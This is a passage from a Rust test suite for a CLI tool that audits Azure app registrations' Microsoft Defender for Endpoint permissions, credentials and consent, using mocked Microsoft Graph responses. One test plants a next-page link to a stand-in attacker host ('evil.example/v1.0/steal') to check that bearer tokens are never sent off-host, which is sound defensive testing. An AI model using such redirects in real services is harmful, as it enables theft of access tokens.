    assert_eq!(row(&v, "Machine.Read", "Scope")["granted"], false);
    assert!(
        findings(&v, "app.not_granted").is_empty(),
        "only requested permissions"
    );
    assert_eq!(codes(&v), ["app.permission_missing"]);
}

#[test]
fn delegated_grants_of_another_api_are_not_windowsdefenderatp_consent() {
    // Microsoft Graph's grant also names Alert.Read-like scopes; an export
    // holding grants for two resources cannot say which is which.
    let dir = tempfile::tempdir().unwrap();
    let mixed = dir.path().join("grants.json");
    std::fs::write(
        &mixed,
        json!([
            {"clientId": "c", "consentType": "AllPrincipals", "principalId": null,
             "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8", "scope": "Alert.Read"},
            {"clientId": "c", "consentType": "AllPrincipals", "principalId": null,
             "resourceId": "00000003-aaaa-4bbb-8ccc-000000000000", "scope": "User.Read Machine.Read openid"}
        ])
        .to_string(),
    )
    .unwrap();
    let g = mixed.to_str().unwrap();
    let (_, v) = user_app_with_grants(g);
    assert_eq!(
        row(&v, "Alert.Read", "Scope")["granted"],
        Value::Null,
        "{v}"
    );
    assert_eq!(
        row(&v, "Machine.Read", "Scope")["granted"],
        Value::Null,
        "{v}"
    );
    let f = findings(&v, "app.grants_unattributed");
    assert_eq!(f.len(), 1, "{v}");
    assert!(f[0]["fix"].as_str().unwrap().contains("--sp"), "{v}");
    // With an app-role assignment naming WindowsDefenderATP's service
    // principal, its delegated grants are told apart.
    std::fs::write(
        &mixed,
        json!([
            {"appRoleId": "ea8291d3-4b9a-44b5-bc3a-6cea3026dc79", "resourceDisplayName": "WindowsDefenderATP",
             "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8"},
            {"clientId": "c", "consentType": "AllPrincipals", "principalId": null,
             "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8", "scope": "Alert.Read"},
            {"clientId": "c", "consentType": "AllPrincipals", "principalId": null,
             "resourceId": "00000003-aaaa-4bbb-8ccc-000000000000", "scope": "User.Read Machine.Read openid"}
        ])
        .to_string(),
    )
    .unwrap();
    let (_, v) = user_app_with_grants(g);
    assert_eq!(row(&v, "Alert.Read", "Scope")["granted"], true, "{v}");
    assert_eq!(row(&v, "Machine.Read", "Scope")["granted"], false, "{v}");
    assert!(findings(&v, "app.grants_unattributed").is_empty());
}

#[test]
fn one_resource_of_grants_is_attributed_by_its_scope_names() {
    // The app requests WindowsDefenderATP's Alert.Read and User.Read.All
    // and Microsoft Graph's User.Read (the portal's default). A grants
    // export on one resource, with no --sp: its names say whose it is.
    let dir = tempfile::tempdir().unwrap();
    let mut app: Value =
        serde_json::from_str(&std::fs::read_to_string(app_fixture("seed-user-app.json")).unwrap())
            .unwrap();
    let rra = app["requiredResourceAccess"].as_array_mut().unwrap();
    rra[0]["resourceAccess"]
        .as_array_mut()
        .unwrap()
        .push(json!({"id": "ffd6563e-842b-4cfc-b349-06006e0473a3", "type": "Scope"}));
    rra.push(json!({"resourceAppId": "00000003-0000-0000-c000-000000000000",
                    "resourceAccess": [{"id": "e1fe6dd8-ba31-4d61-89e7-88639da4683d", "type": "Scope"}]}));
    let app_file = dir.path().join("app.json");
    std::fs::write(&app_file, app.to_string()).unwrap();
    let lint = |scope: &str| {
        let grants = dir.path().join("grants.json");
        std::fs::write(
            &grants,
            json!([{"clientId": "c", "consentType": "AllPrincipals", "principalId": null,
                    "resourceId": "00000003-aaaa-4bbb-8ccc-000000000000", "scope": scope}])
            .to_string(),
        )
        .unwrap();
        run(&[
            app_file.to_str().unwrap(),
            "--permission",
            "Alert.Read",
            "--permission",
            "User.Read.All",
            "--context",
            "delegated",
            "--credential",
            "user",
            "--grants",
            grants.to_str().unwrap(),
        ])
        .1
    };
    // Graph's own names (User.Read, openid): Graph's grant; WindowsDefenderATP
    // has none in the export.
    let v = lint("User.Read User.Read.All openid");
    assert_eq!(row(&v, "Alert.Read", "Scope")["granted"], false, "{v}");
    assert_eq!(row(&v, "User.Read.All", "Scope")["granted"], false, "{v}");
    assert!(findings(&v, "app.grants_unattributed").is_empty(), "{v}");
    // A name only WindowsDefenderATP defines: its grant.
    let v = lint("Alert.Read User.Read.All");
    assert_eq!(row(&v, "Alert.Read", "Scope")["granted"], true, "{v}");
    assert_eq!(row(&v, "User.Read.All", "Scope")["granted"], true, "{v}");
    // Only a name both define, and the app asks Graph too: cannot say.
    let v = lint("User.Read.All");
    assert_eq!(
        row(&v, "User.Read.All", "Scope")["granted"],
        Value::Null,
        "{v}"
    );
    let f = finding(&v, "app.grants_unattributed");
    assert!(
        f["message"].as_str().unwrap().contains(
            "on one resource, with only names Microsoft Graph defines too (such as User.Read.All)"
        ),
        "{f}"
    );
    assert!(
        !f["fix"]
            .as_str()
            .unwrap()
            .contains("export only its grants"),
        "{f}"
    );
}

#[test]
fn without_grants_granted_is_unknown() {
    let (_, v) = run_file("daemon-ok.json", &DAEMON_OK);
    assert_eq!(row(&v, "Machine.Read.All", "Role")["granted"], Value::Null);
    assert!(findings(&v, "app.not_granted").is_empty());
}

// ---------- input errors ----------

#[test]
fn a_file_that_is_not_an_app_is_refused_naming_what_is_missing() {
    let (code, stdout, stderr) = run_err(&[
        &app_fixture("not-an-app.json"),
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(stdout.is_empty());
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("is not an app registration manifest: it has no \"appId\""),
        "{stderr}"
    );
    // Has an appId but is neither shape.
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("odd.json");
    std::fs::write(
        &p,
        json!({"appId": DAEMON, "requiredResourceAccess": []}).to_string(),
    )
    .unwrap();
    let (code, _, stderr) = run_err(&[
        p.to_str().unwrap(),
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("\"signInAudience\""), "{stderr}");
    assert!(stderr.contains("\"availableToOtherTenants\""), "{stderr}");
    // A service principal given as the manifest.
    let (code, _, stderr) = run_err(&[
        &app_fixture("sp-mde.json"),
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("is a service principal, not an app registration"),
        "{stderr}"
    );
}

#[test]
fn bad_permission_names_and_combinations_are_usage_errors() {
    let daemon = app_fixture("daemon-ok.json");
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.Read",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("is a delegated permission (Scope)"),
        "{stderr}"
    );
    assert!(stderr.contains("use Machine.Read.All"), "{stderr}");
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.CollectForensic",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("did you mean Machine.CollectForensics?"),
        "{stderr}"
    );
    // A legacy portal role only users can hold is no application permission.
    let (code, _, stderr) =
        run_err(&[&daemon, "--permission", "secop", "--context", "application"]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("--permission secop is an app role only users can hold"),
        "{stderr}"
    );
    // Nor a delegated one: no advice to switch --context to reach it.
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "secop",
        "--context",
        "delegated",
        "--credential",
        "user",
    ]);
    assert_eq!(code, 2, "{stderr}");
    assert!(
        stderr.contains("--permission secop is an app role only users can hold"),
        "{stderr}"
    );
    assert!(!stderr.contains("--context application"), "{stderr}");
    // A typo inside the name, not only a cut one: the nearest names.
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.Raed.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("did you mean Machine.Read.All"), "{stderr}");
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "user",
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("use --context delegated"), "{stderr}");
    let (code, _, stderr) = run_err(&[
        "/nonexistent/app.json",
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("cannot read /nonexistent/app.json"),
        "{stderr}"
    );
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--grants",
        &app_fixture("daemon-ok.json"),
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("is not a grants export"), "{stderr}");
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--sp",
        &daemon,
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("is an app registration, not a service principal export"),
        "{stderr}"
    );
}

// ---------- live mode ----------

struct FakeGraph {
    server: MockServer,
}

impl FakeGraph {
    fn new() -> FakeGraph {
        FakeGraph {
            server: MockServer::start(),
        }
    }

    fn json(&self, path: &str, status: u16, body: Value) -> httpmock::Mock<'_> {
        self.server.mock(|when, then| {
            when.method(GET)
                .path(path)
                .header("authorization", format!("Bearer {GRAPH_TOKEN}"));
            then.status(status)
                .header("content-type", "application/json")
                .json_body(body);
        })
    }

    fn app(&self, status: u16, body: Value) -> httpmock::Mock<'_> {
        self.json(
            &format!("/v1.0/applications(appId='{DAEMON}')"),
            status,
            body,
        )
    }

    fn mde_sp(&self) -> httpmock::Mock<'_> {
        self.json(
            &format!("/v1.0/servicePrincipals(appId='{MDE}')"),
            200,
            fixture_json("sp-mde.json"),
        )
    }

    fn app_sp(&self) -> httpmock::Mock<'_> {
        self.json(
            &format!("/v1.0/servicePrincipals(appId='{DAEMON}')"),
            200,
            json!({"id": "2f3e4d5c-6b7a-4988-9a0b-1c2d3e4f5a6b", "appId": DAEMON}),
        )
    }

    fn run(&self, extra: &[&str]) -> std::process::Output {
        let dir = tempfile::tempdir().unwrap();
        let token = dir.path().join("graph.token");
        std::fs::write(&token, format!("{GRAPH_TOKEN}\n")).unwrap();
        mdeauth()
            .env_remove("MDEAUTH_GRAPH_TOKEN")
            .args(["app", "--at", AT, "--app-id", DAEMON])
            .args(["--graph-endpoint", &self.server.base_url()])
            .args(["--graph-token-file", token.to_str().unwrap()])
            .args(DAEMON_OK)
            .args(extra)
            .output()
            .unwrap()
    }
}

fn fixture_json(name: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(fixture(&format!("apps/{name}"))).unwrap())
        .unwrap()
}

fn assert_no_token(out: &std::process::Output) {
    let all = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!all.contains(GRAPH_TOKEN), "token leaked:\n{all}");
    assert!(
        !all.contains(&GRAPH_TOKEN[..40]),
        "token prefix leaked:\n{all}"
    );
}

const SP_ID: &str = "2f3e4d5c-6b7a-4988-9a0b-1c2d3e4f5a6b";

#[test]
fn live_mode_reads_app_grants_and_tenant_guids_from_graph() {
    let g = FakeGraph::new();
    let app = g.app(200, fixture_json("daemon-ok.json"));
    let mde = g.mde_sp();
    let sp = g.app_sp();
    let page2 = format!("{}/v1.0/page2", g.server.base_url());
    let roles = g.json(
        &format!("/v1.0/servicePrincipals/{SP_ID}/appRoleAssignments"),
        200,
        json!({"value": [{"appRoleId": MACHINE_READ_ALL, "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8",
                          "resourceDisplayName": "WindowsDefenderATP"}],
               "@odata.nextLink": page2}),
    );
    let roles2 = g.json(
        "/v1.0/page2",
        200,
        json!({"value": [{"appRoleId": ALERT_READ_ALL, "resourceId": "9d3a1c2b-8e7f-4a6b-b5c4-d3e2f1a0b9c8",
                          "resourceDisplayName": "WindowsDefenderATP"}]}),
    );
    let grants = g.json(
        &format!("/v1.0/servicePrincipals/{SP_ID}/oauth2PermissionGrants"),
        200,
        json!({"value": []}),
    );
    let out = g.run(&["--format", "json"]);
    assert_no_token(&out);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let v = json_out(&out);
    for m in [&app, &mde, &sp, &roles, &roles2, &grants] {
        m.assert_calls(1);
    }
    assert_eq!(v["app"]["source"], "graph");
    assert_eq!(v["app"]["guid_table"], "service-principal");
    assert_eq!(row(&v, "Machine.Read.All", "Role")["granted"], true);
    assert_eq!(row(&v, "Alert.Read.All", "Role")["granted"], true);
    assert_eq!(row(&v, "Alert.Read.All", "Role")["confidence"], "tenant");
}

#[test]
fn live_mode_not_granted_and_token_from_env() {
    let g = FakeGraph::new();
    g.app(200, fixture_json("daemon-ok.json"));
    g.mde_sp();
    g.app_sp();
    g.json(
        &format!("/v1.0/servicePrincipals/{SP_ID}/appRoleAssignments"),
        200,
        fixture_json("grants-daemon-partial.json"),
    );
    g.json(
        &format!("/v1.0/servicePrincipals/{SP_ID}/oauth2PermissionGrants"),
        200,
        json!({"value": []}),
    );
    let out = mdeauth()
        .env("MDEAUTH_GRAPH_TOKEN", GRAPH_TOKEN)
        .args(["app", "--format", "json", "--at", AT, "--app-id", DAEMON])
        .args(["--graph-endpoint", &g.server.base_url()])
        .args(DAEMON_OK)
        .output()
        .unwrap();
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(1));
    let v = json_out(&out);
    assert_eq!(codes(&v), ["app.not_granted"]);
    assert_eq!(row(&v, "Alert.Read.All", "Role")["granted"], false);
}

#[test]
fn live_mode_a_list_longer_than_any_apps_is_refused_with_what_to_do() {
    let g = FakeGraph::new();
    g.app(200, fixture_json("daemon-ok.json"));
    g.mde_sp();
    g.app_sp();
    let many: Vec<Value> = (0..5001)
        .map(
            |i| json!({"id": format!("a{i}"), "appRoleId": "71fe6b80-7034-4028-9ed8-0f316df9c3ff"}),
        )
        .collect();
    g.json(
        &format!("/v1.0/servicePrincipals/{SP_ID}/appRoleAssignments"),
        200,
        json!({ "value": many }),
    );
    let out = mdeauth()
        .env("MDEAUTH_GRAPH_TOKEN", GRAPH_TOKEN)
        .args(["app", "--format", "json", "--at", AT, "--app-id", DAEMON])
        .args(["--graph-endpoint", &g.server.base_url()])
        .args(DAEMON_OK)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(3), "{err}");
    assert!(err.contains("returned more than 5000 entries"), "{err}");
    assert!(
        err.contains("pass them as files (MANIFEST, --grants)"),
        "{err}"
    );
}

#[test]
fn live_mode_app_without_service_principal_and_tenant_without_mde() {
    let g = FakeGraph::new();
    g.app(200, fixture_json("daemon-ok.json"));
    g.json(
        &format!("/v1.0/servicePrincipals(appId='{MDE}')"),
        404,
        json!({"error": {"code": "Request_ResourceNotFound", "message": "not found"}}),
    );
    g.json(
        &format!("/v1.0/servicePrincipals(appId='{DAEMON}')"),
        404,
        json!({"error": {"code": "Request_ResourceNotFound", "message": "not found"}}),
    );
    let out = g.run(&["--format", "json"]);
    assert_eq!(out.status.code(), Some(1));
    let v = json_out(&out);
    assert_eq!(
        finding(&v, "app.mde_not_provisioned")["severity"],
        "warning"
    );
    assert_eq!(finding(&v, "app.no_service_principal")["severity"], "info");
    assert_eq!(findings(&v, "app.not_granted").len(), 2);
    assert_eq!(v["app"]["guid_table"], "built-in");
}

#[test]
fn live_mode_401_expired_token() {
    let g = FakeGraph::new();
    g.app(
        401,
        json!({"error": {"code": "InvalidAuthenticationToken",
               "message": format!("Lifetime validation failed, the token is expired: {GRAPH_TOKEN}")}}),
    );
    let out = g.run(&[]);
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("Microsoft Graph rejected the token (HTTP 401, InvalidAuthenticationToken)"),
        "{err}"
    );
    assert!(
        err.contains("az account get-access-token --resource-type ms-graph"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn live_mode_403_names_the_graph_permission() {
    let g = FakeGraph::new();
    g.app(
        403,
        json!({"error": {"code": "Authorization_RequestDenied", "message": "Insufficient privileges to complete the operation."}}),
    );
    let out = g.run(&[]);
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("HTTP 403, Authorization_RequestDenied"),
        "{err}"
    );
    assert!(err.contains("Application.Read.All"), "{err}");
}

#[test]
fn live_mode_404_app_not_in_this_tenant() {
    let g = FakeGraph::new();
    g.app(
        404,
        json!({"error": {"code": "Request_ResourceNotFound", "message": "Resource does not exist"}}),
    );
    let out = g.run(&[]);
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(&format!(
            "Microsoft Graph has no application with appId {DAEMON} in this tenant"
        )),
        "{err}"
    );
    assert!(err.contains("tid claim"), "{err}");
}

#[test]
fn live_mode_429_says_when_to_retry() {
    let g = FakeGraph::new();
    let m = g.server.mock(|when, then| {
        when.method(GET)
            .path(format!("/v1.0/applications(appId='{DAEMON}')"));
        then.status(429)
            .header("Retry-After", "30")
            .header("content-type", "application/json")
            .json_body(json!({"error": {"code": "TooManyRequests", "message": "throttled"}}));
    });
    let out = g.run(&[]);
    m.assert_calls(1);
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("throttling requests (HTTP 429)"), "{err}");
    assert!(err.contains("retry after 30 s (not before "), "{err}");
}

#[test]
fn live_mode_429_with_an_absurd_retry_after_is_no_advice_and_no_crash() {
    for value in [
        "9223372036854775807",
        "-9223372036854775808",
        "99999999999",
        "Fri, 31 Dec 9999 23:59:59 GMT",
    ] {
        let g = FakeGraph::new();
        g.server.mock(|when, then| {
            when.method(GET)
                .path(format!("/v1.0/applications(appId='{DAEMON}')"));
            then.status(429)
                .header("Retry-After", value)
                .json_body(json!({"error": {"code": "TooManyRequests", "message": "throttled"}}));
        });
        let out = g.run(&[]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(3), "{value}: {err}");
        assert!(
            err.contains("is not a usable delay; wait a minute before retrying"),
            "{value}: {err}"
        );
        assert_eq!(err.lines().count(), 1, "{value}: {err}");
    }
}

#[test]
fn live_mode_needs_a_token_and_a_guid() {
    let (code, _, stderr) = run_err(&[
        "--app-id",
        DAEMON,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("needs a Microsoft Graph token"), "{stderr}");
    // The MDE token given for Graph's: refused before anything is sent.
    let mde = fixture("tokens/app-v1.jwt");
    let (code, _, stderr) = run_err(&[
        "--app-id",
        DAEMON,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--graph-token-file",
        mde.to_str().unwrap(),
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("holds a token for the MDE API, not for Microsoft Graph"),
        "{stderr}"
    );
    let (code, _, stderr) = run_err(&[
        "--app-id",
        "not-a-guid",
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("is not a GUID"), "{stderr}");
}

#[test]
fn live_mode_never_follows_a_next_link_to_another_host() {
    let g = FakeGraph::new();
    g.app(200, fixture_json("daemon-ok.json"));
    g.mde_sp();
    g.app_sp();
    g.json(
        &format!("/v1.0/servicePrincipals/{SP_ID}/appRoleAssignments"),
        200,
        json!({"value": [], "@odata.nextLink": "https://evil.example/v1.0/steal"}),
    );
    let out = g.run(&[]);
    assert_no_token(&out);
    assert_eq!(out.status.code(), Some(3));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("next-page link to another host (evil.example)"),
        "{err}"
    );
}

#[test]
fn consent_links_in_fixes_use_the_apps_cloud() {
    // A GCC High app's customer tenants sign in on login.microsoftonline.us:
    // a link to the commercial sign-in host would not find them.
    let mut args = DAEMON_OK.to_vec();
    args.extend(["--multi-tenant", "--cloud", "gcc-high"]);
    let (code, v) = run_file("daemon-ok.json", &args);
    assert_eq!(code, 1);
    let link = format!(
        "https://login.microsoftonline.us/common/oauth2/authorize?prompt=consent&client_id={DAEMON}&response_type=code&sso_reload=true"
    );
    let f = finding(&v, "app.not_multi_tenant");
    assert_fix_line(
        f,
        &format!("then an admin of each customer tenant consents: {link}"),
    );
    assert_fix_line(
        finding(&v, "app.no_redirect_uri"),
        &format!("consent link: {link}"),
    );
    let all = v.to_string();
    assert!(!all.contains("login.microsoftonline.com"), "{all}");

    // An unknown cloud is a usage error in manifest mode too.
    let daemon = app_fixture("daemon-ok.json");
    let mut args = vec![daemon.as_str()];
    args.extend(DAEMON_OK);
    args.extend(["--cloud", "mars"]);
    let (code, _, stderr) = run_err(&args);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("invalid value 'mars' for '--cloud"),
        "{stderr}"
    );
}

#[test]
fn live_mode_flags_need_app_id_and_files_conflict_with_it() {
    let daemon = app_fixture("daemon-ok.json");
    let (code, _, stderr) = run_err(&[
        &daemon,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--graph-endpoint",
        "https://graph.microsoft.com",
    ]);
    assert_eq!(code, 2);
    assert!(
        stderr.contains("--graph-endpoint is for live mode and needs --app-id"),
        "{stderr}"
    );
    let (code, _, stderr) = run_err(&[
        "--app-id",
        DAEMON,
        "--sp",
        &app_fixture("sp-mde.json"),
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
    ]);
    assert_eq!(code, 2);
    assert!(stderr.contains("cannot be used with"), "{stderr}");
}

// ---------- more credential findings, from generated manifests ----------

/// Write a Microsoft Graph-shape daemon manifest with these credentials.
fn daemon_with(dir: &tempfile::TempDir, secrets: Value, certs: Value) -> String {
    let p = dir.path().join("app.json");
    let doc = json!({
        "appId": DAEMON, "displayName": "generated", "signInAudience": "AzureADMyOrg",
        "isFallbackPublicClient": null,
        "passwordCredentials": secrets, "keyCredentials": certs,
        "requiredResourceAccess": [{"resourceAppId": MDE,
            "resourceAccess": [{"id": MACHINE_READ_ALL, "type": "Role"}]}]
    });
    // The portal saves manifests with a UTF-8 byte-order mark.
    let mut bytes = b"\xef\xbb\xbf".to_vec();
    bytes.extend(serde_json::to_vec_pretty(&doc).unwrap());
    std::fs::write(&p, bytes).unwrap();
    p.display().to_string()
}

fn cert(end: &str, key: &str) -> Value {
    json!({"displayName": "CN=daemon", "endDateTime": end, "keyId": key,
           "type": "AsymmetricX509Cert", "usage": "Verify"})
}

#[test]
fn certificate_expired_and_expiring() {
    let dir = tempfile::tempdir().unwrap();
    let k1 = "11111111-2222-4333-8444-555555555555";
    let p = daemon_with(&dir, json!([]), json!([cert("2026-02-01T00:00:00Z", k1)]));
    let (code, v) = run(&[
        &p,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "certificate",
    ]);
    assert_eq!(code, 1);
    let f = finding(&v, "app.certificate_expired");
    assert_eq!(f["severity"], "error");
    assert_fix_line(
        f,
        &format!("az ad app credential reset --id {DAEMON} --append --cert @new-cert.pem"),
    );
    // Without --cert, az would look for a password credential with that id.
    assert_fix_line(
        f,
        &format!("az ad app credential delete --id {DAEMON} --key-id {k1} --cert"),
    );
    assert!(findings(&v, "app.certificate_missing").is_empty());

    let p = daemon_with(&dir, json!([]), json!([cert("2026-03-10T00:00:00Z", k1)]));
    let (code, v) = run(&[
        &p,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "certificate",
    ]);
    assert_eq!(code, 0, "{v}");
    let f = finding(&v, "app.certificate_expiring");
    assert_eq!(f["severity"], "warning");
    // The current certificate still signs: it is deleted only after the
    // app has moved to the new one.
    assert_fix_line(
        f,
        &format!(
            "az ad app credential reset --id {DAEMON} --append --cert @new-cert.pem   # then switch the app to sign with the new certificate"
        ),
    );
    assert!(
        f["message"].as_str().unwrap().contains("(in 8 days)"),
        "{f}"
    );
    // A plan that signs in with a federated credential has no use for it:
    // let it lapse.
    let (_, v) = run(&[
        &p,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "federated",
    ]);
    let f = finding(&v, "app.certificate_expiring");
    assert_eq!(f["severity"], "info");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .ends_with("the plan signs in with federated, so let it lapse rather than renew it"),
        "{f}"
    );
    assert!(
        !f["fix"].as_str().unwrap().contains("credential reset"),
        "{f}"
    );
    // Signing certificates (SAML) are not client credentials.
    let mut signing = cert("2026-02-01T00:00:00Z", k1);
    signing["usage"] = json!("Sign");
    let p = daemon_with(&dir, json!([]), json!([signing]));
    let (_, v) = run(&[
        &p,
        "--permission",
        "Machine.Read.All",
        "--context",
        "application",
        "--credential",
        "certificate",
    ]);
    assert_eq!(v["app"]["credentials"], json!([]));
    assert_eq!(finding(&v, "app.certificate_missing")["severity"], "error");
}

#[test]
fn secret_planned_but_none_configured() {
    let dir = tempfile::tempdir().unwrap();
    let p = daemon_with(&dir, json!([]), json!([]));
    let (code, v) = run_secret_daemon(&p);
    assert_eq!(code, 1);
    let f = finding(&v, "app.secret_missing");
    assert_eq!(f["severity"], "error");
    assert!(f["fix"].as_str().unwrap().starts_with(&format!(
        "az ad app credential reset --id {DAEMON} --append --display-name mdeauth --years 1"
    )));
}

#[test]
fn expired_secret_next_to_a_valid_one_is_only_a_warning() {
    let dir = tempfile::tempdir().unwrap();
    let old = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee";
    let p = daemon_with(
        &dir,
        json!([
            {"displayName": "old", "endDateTime": "2025-12-01T00:00:00Z", "keyId": old},
            {"displayName": "new", "endDateTime": "2027-12-01T00:00:00Z", "keyId": "bbbbbbbb-cccc-4ddd-8eee-ffffffffffff"}
        ]),
        json!([]),
    );
    let (code, v) = run_secret_daemon(&p);
    assert_eq!(code, 0, "{v}");
    let f = finding(&v, "app.secret_expired");
    assert_eq!(f["severity"], "warning");
    assert_eq!(
        f["fix"],
        format!("az ad app credential delete --id {DAEMON} --key-id {old}")
    );
    assert_eq!(v["app"]["credentials"][0]["status"], "expired");
    assert_eq!(v["app"]["credentials"][1]["status"], "valid");
}

#[test]
fn unknown_cloud_is_a_usage_error() {
    let out = mdeauth()
        .env("MDEAUTH_GRAPH_TOKEN", GRAPH_TOKEN)
        .args(["app", "--app-id", DAEMON, "--cloud", "mars"])
        .args([
            "--permission",
            "Machine.Read.All",
            "--context",
            "application",
        ])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert_no_token(&out);
    assert!(String::from_utf8_lossy(&out.stderr).contains("invalid value 'mars' for '--cloud"));
}

// ---------- plan-driven lint (--plan / --call, permissions from the catalogue) ----------

const MACHINE_READWRITE_ALL: &str = "aa027352-232b-4ed4-b963-a705fc4d6d2c";
const ALERT_READWRITE_ALL: &str = "0f7000ec-157b-497f-b70e-ef0b0584f140";
const SOC_PLAN_APP: &str = "9b0a3d8e-5c2f-4e71-a1b4-6d3e8f2c7a90";

fn plan(name: &str) -> String {
    fixture(&format!("plans/{name}")).display().to_string()
}

/// (severity, code) of every finding, in report order.
fn sev_codes(v: &Value) -> Vec<(String, String)> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["severity"].as_str().unwrap().to_string(),
                f["code"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn pairs(list: &[(&str, &str)]) -> Vec<(String, String)> {
    list.iter()
        .map(|(s, c)| (s.to_string(), c.to_string()))
        .collect()
}

#[test]
fn plan_driven_lint_of_the_matching_daemon_passes() {
    let (code, v) = run_file("daemon-ok.json", &["--plan", &plan("export-daemon.toml")]);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(codes(&v), Vec::<String>::new());
    assert_eq!(v["plan"]["name"], "Contoso MDE export daemon");
    assert_eq!(v["app"]["context"], "application");
    assert_eq!(
        v["app"]["permissions"],
        json!([
            {"name": "Machine.Read.All", "type": "Role", "guid": MACHINE_READ_ALL,
             "requested": true, "granted": null, "needed": true, "confidence": "high"},
            {"name": "Alert.Read.All", "type": "Role", "guid": ALERT_READ_ALL,
             "requested": true, "granted": null, "needed": true, "confidence": "high"}
        ])
    );
    // The same calls given with --call and --context.
    let (code, v) = run_file(
        "daemon-ok.json",
        &[
            "--call",
            "GET /api/machines",
            "--call",
            "GET https://api.security.microsoft.com/api/alerts?$top=10",
            "--context",
            "application",
            "--credential",
            "certificate",
        ],
    );
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(codes(&v), Vec::<String>::new());
    assert_eq!(v["plan"], Value::Null);
}

#[test]
fn read_write_where_the_plan_only_reads_is_broader_than_minimal() {
    // daemon-ok with Machine.ReadWrite.All in place of Machine.Read.All.
    let text = std::fs::read_to_string(fixture("apps/daemon-ok.json"))
        .unwrap()
        .replace(MACHINE_READ_ALL, MACHINE_READWRITE_ALL);
    let dir = tempfile::tempdir().unwrap();
    let manifest = dir.path().join("rw.json");
    std::fs::write(&manifest, text).unwrap();
    let (code, v) = run(&[
        manifest.to_str().unwrap(),
        "--plan",
        &plan("export-daemon.toml"),
    ]);
    assert_eq!(code, 0, "{v:#}");
    assert_eq!(
        sev_codes(&v),
        pairs(&[("warning", "app.permission_unneeded")])
    );
    let f = finding(&v, "app.permission_unneeded");
    assert_eq!(
        f["message"],
        "Machine.ReadWrite.All is broader than the plan needs (least privilege): Machine.Read.All is enough for the planned calls"
    );
    assert_fix_line(f, &add_line(DAEMON, &format!("{MACHINE_READ_ALL}=Role")));
    assert_fix_line(f, &delete_line(DAEMON, MACHINE_READWRITE_ALL));
    assert_fix_line(
        f,
        &format!("az ad app permission admin-consent --id {DAEMON}"),
    );
